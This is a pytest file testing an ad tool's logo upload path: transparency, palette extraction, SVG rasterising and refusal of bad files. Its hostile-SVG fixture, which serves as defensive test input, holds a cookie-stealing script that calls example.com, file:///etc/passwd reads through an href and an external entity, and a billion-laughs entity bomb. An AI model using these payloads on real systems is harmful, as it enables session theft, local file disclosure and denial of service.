"""Logos through the chat's upload path: transparency kept, colours found, hostile files refused."""

from __future__ import annotations

import io

import brand_samples
import numpy as np
import pytest
from PIL import Image
from skimage.color import deltaE_ciede2000, rgb2lab

from adgen.brand.errors import BrandKitRejected
from adgen.brand.library import BrandLibrary
from adgen.brand.palette import extract_palette
from adgen.store.uploads import UploadRejected, validate_image_upload

# A found colour counts as the drawn one within this CIEDE2000 distance (2 is "barely visible").
SAME_COLOUR_DE2000 = 2.0


def delta_e(hex_colour: str, rgb: tuple[int, int, int]) -> float:
    a = np.array([[int(hex_colour[i : i + 2], 16) for i in (1, 3, 5)]], dtype=np.float64) / 255
    b = np.array([rgb], dtype=np.float64) / 255
    return float(deltaE_ciede2000(rgb2lab(a[None])[0], rgb2lab(b[None])[0])[0])


def nearest_delta(palette: list[str], rgb: tuple[int, int, int]) -> float:
    return min(delta_e(c, rgb) for c in palette)


def test_a_transparent_png_logo_keeps_its_alpha_and_gives_its_colours(library: BrandLibrary, logo_png: bytes):
    update = library.add_logo("alice", logo_png, "harbour-logo.png", new_kit_name="Harbour Coffee")
    logo = update.kit.logo
    assert logo is not None and logo.has_transparency and logo.format == "png"
    stored = library.media.read_bytes(logo.url)
    assert stored == logo_png  # kept as uploaded
    with Image.open(io.BytesIO(stored)) as image:
        assert image.mode == "RGBA"
        assert image.getpixel((2, 2))[3] == 0  # the corner is still see-through
    for rgb in brand_samples.LOGO_COLOURS.values():
        assert nearest_delta(logo.palette, rgb) < SAME_COLOUR_DE2000
    assert len(logo.palette) == 3  # anti-aliased edges are not colours of their own
    # The kit had no colours: it takes the logo's, and says so.
    assert set(update.kit.colors.as_list()) == set(logo.palette)
    assert any("Colours taken from the logo" in n for n in update.notes)
    assert update.suggestions == []


def test_a_webp_logo_with_alpha_stays_rgba(library: BrandLibrary):
    data = brand_samples.encode(brand_samples.draw_logo(), "WEBP", lossless=True)
    logo = library.add_logo("alice", data, "logo.webp").kit.logo
    assert logo.format == "webp" and logo.has_transparency
    with Image.open(io.BytesIO(library.media.read_bytes(logo.url))) as image:
        assert image.mode == "RGBA"


def test_a_logo_on_a_plate_drops_the_plate_colour_and_offers_the_cut_out(library: BrandLibrary):
    cream = (250, 246, 236)
    data = brand_samples.encode(brand_samples.draw_logo(plate=cream), "PNG")
    update = library.add_logo("alice", data, "logo-on-cream.png")
    logo = update.kit.logo
    assert not logo.has_transparency
    assert nearest_delta(logo.palette, cream) > 10  # the background is not a brand colour
    for rgb in brand_samples.LOGO_COLOURS.values():
        assert nearest_delta(logo.palette, rgb) < SAME_COLOUR_DE2000
    [offer] = update.suggestions
    assert offer.kind == "logo_cutout" and offer.background == "flat"
    assert delta_e(offer.plate_colour, cream) < SAME_COLOUR_DE2000
    assert "cut out the logo" in offer.message and offer.message in update.notes


def test_a_photo_logo_is_accepted_flagged_and_offered_a_cut_out(library: BrandLibrary):
    update = library.add_logo("alice", brand_samples.photo_logo_jpeg(), "cup.jpg")
    logo = update.kit.logo
    assert logo.format == "jpeg" and not logo.has_transparency
    assert 1 <= len(logo.palette) <= 5
    [offer] = update.suggestions
    assert offer.background == "photo" and "rectangle on the end card" in offer.message


def test_palette_of_a_photograph_follows_its_pixels():
    """The coffee photo's palette colours each lie close to many of its pixels (not invented)."""
    from skimage import data

    photo = data.coffee()
    palette = extract_palette(Image.fromarray(photo)).hexes
    pixels = rgb2lab(photo[::8, ::8] / 255.0).reshape(-1, 3)
    for colour in palette:
        lab = rgb2lab(np.array([[[int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]]]))[0, 0]
        share = float((np.linalg.norm(pixels - lab, axis=1) < 10).mean())
        assert share > 0.02, (colour, share)


def test_an_svg_logo_is_rasterised_with_transparency(library: BrandLibrary):
    svg = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<!-- exported by a design tool -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="200" height="100" viewBox="0 0 200 100">
  <defs><linearGradient id="g">
    <stop offset="0" stop-color="#FF6F59"/><stop offset="1" stop-color="#FF6F59"/>
  </linearGradient></defs>
  <circle id="disc" cx="50" cy="50" r="40" fill="#1B2A4A"/>
  <rect x="110" y="25" width="80" height="50" rx="12" style="fill:url(#g)"/>
  <use xlink:href="#disc" transform="translate(0,0)"/>
</svg>"""
    logo = library.add_logo("alice", svg, "logo.svg").kit.logo
    assert logo.source_format == "svg" and logo.format == "png" and logo.has_transparency
    assert (logo.width, logo.height) == (1024, 512)
    with Image.open(io.BytesIO(library.media.read_bytes(logo.url))) as image:
        assert image.mode == "RGBA" and image.getpixel((3, 3))[3] == 0
    assert nearest_delta(logo.palette, brand_samples.NAVY) < SAME_COLOUR_DE2000
    assert nearest_delta(logo.palette, brand_samples.CORAL) < SAME_COLOUR_DE2000


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>"""
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    b'width="100" height="100">%s</svg>'
)
HOSTILE_LOGOS = {
    "svg-script": (
        SVG % b"<script>fetch('http://example.com/'+document.cookie)</script>",
        "contains a script",
    ),
    "svg-onload": (SVG.replace(b"<svg ", b'<svg onload="alert(1)" ') % b"", "event handler (onload)"),
    "svg-http-href": (
        SVG % b'<image href="http://127.0.0.1:9/logo.png" width="10" height="10"/>',
        "outside the file",
    ),
    "svg-file-href": (
        SVG % b'<image xlink:href="file:///etc/passwd" width="10" height="10"/>',
        "outside the file",
    ),
    "svg-relative-use": (SVG % b'<use href="other.svg#shape"/>', "outside the file"),
    "svg-css-import": (
        SVG % b"<style>@import url(http://127.0.0.1:9/a.css);</style>",
        "imports an outside style",
    ),
    "svg-foreign-object": (SVG % b"<foreignObject><p>hi</p></foreignObject>", "<foreignObject>"),
    "svg-billion-laughs": (BILLION_LAUGHS, "declares XML entities"),
    "svg-external-entity": (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
        "declares XML entities",
    ),
    "svg-nested-svg-data": (
        SVG % b'<image href="data:image/svg+xml;base64,PHN2Zy8+" width="10" height="10"/>',
        "outside the file",
    ),
    "not-an-image": (b"%PDF-1.7 not a logo", "not an image I can read"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_LOGOS))
def test_hostile_logos_are_refused_with_one_sentence_and_the_kit_unchanged(library: BrandLibrary, case: str):
    kit = library.create_kit("alice", "Harbour Coffee", tagline="Roasted by the sea")
    data, expected = HOSTILE_LOGOS[case]
    with pytest.raises(BrandKitRejected) as refused:
        library.add_logo("alice", data, f"{case}.svg")
    message = str(refused.value)
    assert expected in message
    assert message.count(". ") == 0 and message.endswith(".")  # one sentence
    assert "send a PNG" in message or "PNG or JPEG" in message  # and what to do instead
    after = library.kit("alice", kit.kit_id)
    assert after.version_doc() == kit.version_doc() and after.logo is None
    assert len(library.history("alice", kit.kit_id)) == 1


def test_a_20_mb_logo_is_refused_by_the_logo_size_limit(library: BrandLibrary, logo_png: bytes):
    kit = library.add_logo("alice", logo_png, "logo.png").kit
    with pytest.raises(
        BrandKitRejected, match=r"“huge\.png” is 20\.\d MB, too large; send an image under 5\.0 MB\."
    ):
        library.add_logo("alice", brand_samples.big_png(), "huge.png")
    assert library.kit("alice", kit.kit_id).version_doc() == kit.version_doc()


def test_logo_refusals_are_the_upload_paths_own(library: BrandLibrary, logo_png: bytes):
    """The logo goes through validate_image_upload: a damaged PNG gets its exact message."""
    damaged = logo_png[: len(logo_png) // 2]
    with pytest.raises(UploadRejected) as direct:
        validate_image_upload(damaged, filename="logo.png", max_bytes=10**7, max_pixels=40_000_000)
    with pytest.raises(BrandKitRejected) as through_kit:
        library.add_logo("alice", damaged, "logo.png")
    assert str(through_kit.value) == str(direct.value)
    assert library.default_kit("alice") is None  # no kit was started by a refused upload
